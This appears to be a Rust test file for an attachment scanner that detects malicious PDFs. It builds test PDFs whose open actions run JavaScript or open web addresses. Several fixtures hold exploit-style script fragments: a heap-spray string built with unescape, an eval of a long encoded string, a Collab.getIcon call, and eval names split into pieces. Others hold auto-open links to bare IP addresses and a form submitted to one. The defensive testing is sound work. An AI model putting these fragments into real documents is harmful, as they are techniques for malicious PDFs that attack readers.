/// One page of text whose /OpenAction (object 5) runs the script in stream object 6 (`js`,
/// a whole `stream(...)`); `catalog` adds entries to the catalog.
fn script_on_open(catalog: &str, js: &[u8]) -> Vec<u8> {
    let content = stream("", LONG_TEXT.as_bytes());
    let catalog = format!("<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R {catalog}>>");
    pdf(
        &[
            catalog.as_bytes(),
            PAGES,
            &page(4, ""),
            &content,
            b"<< /S /JavaScript /JS 6 0 R >>",
            js,
        ],
        "",
    )
}

/// The script of a damaged file's /OpenAction in a compressed stream of its own: decoded and
/// judged.
#[test]
fn a_damaged_files_compressed_script_stream_is_decoded_and_judged() {
    use std::io::Write as _;
    let script =
        b"var shell = unescape('%u0c0c%u0c0c'); while (shell.length < 0x40000) shell += shell;";
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(script).unwrap();
    let packed = z.finish().unwrap();
    let good = script_on_open("", &stream("/Filter /FlateDecode", &packed));
    let (f, _) = run(damaged(&good));
    assert!(
        rules(&f).contains(&"PDF_AUTORUN_JAVASCRIPT"),
        "{:?}",
        rules(&f)
    );
    assert!(rules(&f).contains(&"PDF_JAVASCRIPT_SUSPICIOUS"), "{f:?}");
    assert!(
        evidence(&f, "PDF_JAVASCRIPT_SUSPICIOUS", "script").contains("unescape"),
        "{f:?}"
    );
}

/// A damaged file whose only script sits behind a link (it runs when clicked, not on open)
/// and with no automatic trigger: JavaScript, but not autorun.
#[test]
fn a_damaged_files_clicked_script_is_not_called_autorun() {
    let content = stream("", LONG_TEXT.as_bytes());
    let good = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R]"),
            &content,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
            b"<< /S /GoTo /D [3 0 R /Fit] >>",
        ],
        "",
    );
    let (f, _) = run(damaged(&good));
    assert!(
        !rules(&f).contains(&"PDF_AUTORUN_JAVASCRIPT"),
        "{:?}",
        rules(&f)
    );
    assert!(rules(&f).contains(&"PDF_JAVASCRIPT"), "{:?}", rules(&f));
}

/// A document whose /OpenAction is `action`, with one page of text and, when `link` is given,
/// one link annotation to it.
fn auto_open(action: &str, link: Option<&str>) -> Vec<u8> {
    let content = stream("", LONG_TEXT.as_bytes());
    let annots = if link.is_some() {
        "/Annots [6 0 R]"
    } else {
        ""
    };
    let link_obj = link.map(|u| {
        format!(
            "<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A << /S /URI /URI ({u}) >> >>"
        )
    });
    let catalog = format!("<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>");
    let page = page(4, annots);
    let mut objects: Vec<&[u8]> = vec![catalog.as_bytes(), PAGES, &page, &content, b"<< >>"];
    if let Some(l) = &link_obj {
        objects.push(l.as_bytes());
    }
    pdf(&objects, "")
}

/// Issue 17 item 4: a PDF that opens a web address on a bare IP, or on a site none of its
/// links shows, by itself is a lure; one that goes to a page of itself (GoTo) with an ordinary
/// link, or opens its own publisher's site that its links show too, is not.
#[test]
fn a_pdf_that_opens_a_web_address_by_itself_is_a_lure_unless_its_links_show_that_site() {
    let (f, _) = run(auto_open(
        "<< /S /URI /URI (http://198.51.100.7/view) >>",
        None,
    ));
    assert_eq!(rules(&f), ["PDF_AUTO_OPEN_URL"]);
    assert_eq!(
        evidence(&f, "PDF_AUTO_OPEN_URL", "url"),
        "http://198.51.100.7/view"
    );
    assert_eq!(evidence(&f, "PDF_AUTO_OPEN_URL", "trigger"), "/OpenAction");
    assert_eq!(
        evidence(&f, "PDF_AUTO_OPEN_URL", "why"),
        "a bare IP address"
    );

    let (f, _) = run(auto_open(
        "<< /S /URI /URI (https://login.bills-example.net/) >>",
        Some("https://www.example-shop.com/"),
    ));
    assert_eq!(rules(&f), ["PDF_AUTO_OPEN_URL"]);
    assert_eq!(
        evidence(&f, "PDF_AUTO_OPEN_URL", "why"),
        "a site no link in the document shows"
    );

    // A submit on open sends the form somewhere too.
    let (f, _) = run(auto_open(
        "<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.5/c) >> >>",
        None,
    ));
    assert_eq!(rules(&f), ["PDF_AUTO_OPEN_URL"]);

    let (f, _) = run(auto_open(
        "[3 0 R /Fit]",
        Some("https://www.example-shop.com/"),
    ));
    assert!(rules(&f).is_empty(), "{f:?}");
    let (f, _) = run(auto_open(
        "<< /S /URI /URI (https://www.example-shop.com/welcome) >>",
        Some("https://support.example-shop.com/"),
    ));
    assert!(rules(&f).is_empty(), "{f:?}");
}

/// Issue 17: what separates a form's script run on open from an attack. The same ordinary
/// form script (fields filled in and totalled, a number format, a message, a page, printing)
/// run by /OpenAction: one page of text and the script, `extra` appended to it; `damage`
/// breaks the way to the cross-reference table as exploit kits did.
fn form_on_open(extra: &str, damage: bool) -> Vec<u8> {
    let script = format!(
        "var t = this.getField('total'); t.value = this.getField('a').value + this.getField('b').value; \
         AFNumber_Format(2, 0, 0, 0, '', true); app.alert('Please check the total: ' + t.value + ' yen'); \
         this.pageNum = 0; this.print({{bUI: true}}); {extra}"
    );
    let good = script_on_open(
        "/AcroForm << /Fields [] >> ",
        &stream("", script.as_bytes()),
    );
    if damage { damaged(&good) } else { good }
}

/// The verdict of `data` scanned as an attachment, end to end (rules, scores, thresholds).
fn verdict_of(data: &[u8]) -> crate::Report {
    crate::Engine::new(
        crate::Config::default(),
        crate::Signatures::embedded().unwrap(),
    )
    .scan_attachment("form.pdf", data)
    .unwrap()
}

fn rule_ids(r: &crate::Report) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn a_form_script_run_on_open_stays_below_warn() {
    let report = verdict_of(&form_on_open("", false));
    assert_eq!(rule_ids(&report), ["PDF_AUTORUN_PLAIN_SCRIPT"]);
    assert_eq!(report.verdict, crate::Verdict::Clean, "{report:?}");
    // The finding still says what runs.
    assert!(
        report.findings[0]
            .reason_en
            .contains("this.getField('total')")
    );
}

#[test]
fn the_same_form_script_calling_an_exploited_reader_api_is_quarantined() {
    let report = verdict_of(&form_on_open("Collab.getIcon(t.value);", false));
    assert_eq!(report.verdict, crate::Verdict::Quarantine, "{report:?}");
    let ids = rule_ids(&report);
    assert!(ids.contains(&"PDF_AUTORUN_JAVASCRIPT"), "{ids:?}");
    assert!(!ids.contains(&"PDF_AUTORUN_PLAIN_SCRIPT"), "{ids:?}");
    let autorun = report
        .findings
        .iter()
        .find(|f| f.rule == "PDF_AUTORUN_JAVASCRIPT")
        .unwrap();
    assert!(
        autorun
            .reason_en
            .contains("its script shows signs of an exploit"),
        "{}",
        autorun.reason_en
    );
}

#[test]
fn the_same_form_script_evaluating_a_long_unescaped_string_is_quarantined() {
    let payload: String = "var x = app.viewerVersion; "
        .bytes()
        .map(|b| format!("%{b:02x}"))
        .collect::<String>()
        .repeat(30);
    let extra = format!("var p = '{payload}'; eval(unescape(p));");
    let report = verdict_of(&form_on_open(&extra, false));
    assert_eq!(report.verdict, crate::Verdict::Quarantine, "{report:?}");
    let suspicious = report
        .findings
        .iter()
        .find(|f| f.rule == "PDF_JAVASCRIPT_SUSPICIOUS")
        .expect("exploit signs named");
    let signs = &suspicious.reason_en;
    assert!(signs.contains("long encoded string"), "{signs}");
    assert!(signs.contains("unescape"), "{signs}");
    assert!(rule_ids(&report).contains(&"PDF_AUTORUN_JAVASCRIPT"));
}

#[test]
fn the_same_form_script_in_a_damaged_file_is_quarantined() {
    let report = verdict_of(&form_on_open("", true));
    assert_eq!(report.verdict, crate::Verdict::Quarantine, "{report:?}");
    let autorun = report
        .findings
        .iter()
        .find(|f| f.rule == "PDF_AUTORUN_JAVASCRIPT")
        .expect("joined and judged");
    assert!(
        autorun
            .reason_en
            .contains("its cross-reference table cannot be found (startxref points"),
        "{}",
        autorun.reason_en
    );
}

/// A script stream whose text reads as no script (names in pieces, few of the usual words)
/// is still read as the script its `/JS 6 0 R` reference says it is, and judged.
#[test]
fn a_stream_referenced_as_a_script_is_read_whatever_its_text() {
    let js = stream(
        "",
        b"q = ''; e = app['ev' + q + 'al']; s = p[0]['sub' + 'ject']; e(s);",
    );
    let good = script_on_open("", &js);
    let (f, _) = run(damaged(&good));
    assert!(rules(&f).contains(&"PDF_AUTORUN_JAVASCRIPT"), "{f:?}");
    assert!(
        evidence(&f, "PDF_JAVASCRIPT_SUSPICIOUS", "signs")
            .contains("function names written in pieces"),
        "{f:?}"
    );
}

/// A script run on open whose object holds nothing readable (an empty string, an empty
/// stream, a stream that cannot be decoded) is not quoted as an empty `` in the reason: the
/// reason says what was found, in English and Japanese.
#[test]
fn an_empty_or_unreadable_script_object_is_said_so_not_quoted_empty() {
    let empty_string = script_on_open("", b"()");
    let empty_stream = damaged(&script_on_open("", &stream("", b"")));
    let undecodable = damaged(&script_on_open(
        "",
        &stream("/Filter /FlateDecode", b"\x01\x02 not zlib at all \x03"),
    ));
    for (what, data, rule) in [
        ("an empty string", empty_string, "PDF_AUTORUN_PLAIN_SCRIPT"),
        (
            "an empty stream, damaged file",
            empty_stream,
            "PDF_AUTORUN_JAVASCRIPT",
        ),
        (
            "an undecodable stream, damaged file",
            undecodable,
            "PDF_AUTORUN_JAVASCRIPT",
        ),
    ] {
        let report = verdict_of(&data);
        let finding = report
            .findings
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| panic!("{what}: no {rule} in {report:?}"));
        assert!(
            !finding.reason_en.contains("``"),
            "{what}: {}",
            finding.reason_en
        );
        assert!(
            !finding.reason_ja.contains("``"),
            "{what}: {}",
            finding.reason_ja
        );
        assert!(
            finding
                .reason_en
                .ends_with(": the script object is empty or unreadable"),
            "{what}: {}",
            finding.reason_en
        );
        assert!(
            finding
                .reason_ja
                .ends_with("：スクリプトのオブジェクトは空か、読み取れません"),
            "{what}: {}",
            finding.reason_ja
        );
    }
    // A readable script is still quoted.
    let report = verdict_of(&script_on_open("", b"(app.alert\\(1\\))"));
    assert!(
        report.findings[0].reason_en.ends_with(": `app.alert(1)`"),
        "{}",
        report.findings[0].reason_en
    );
}
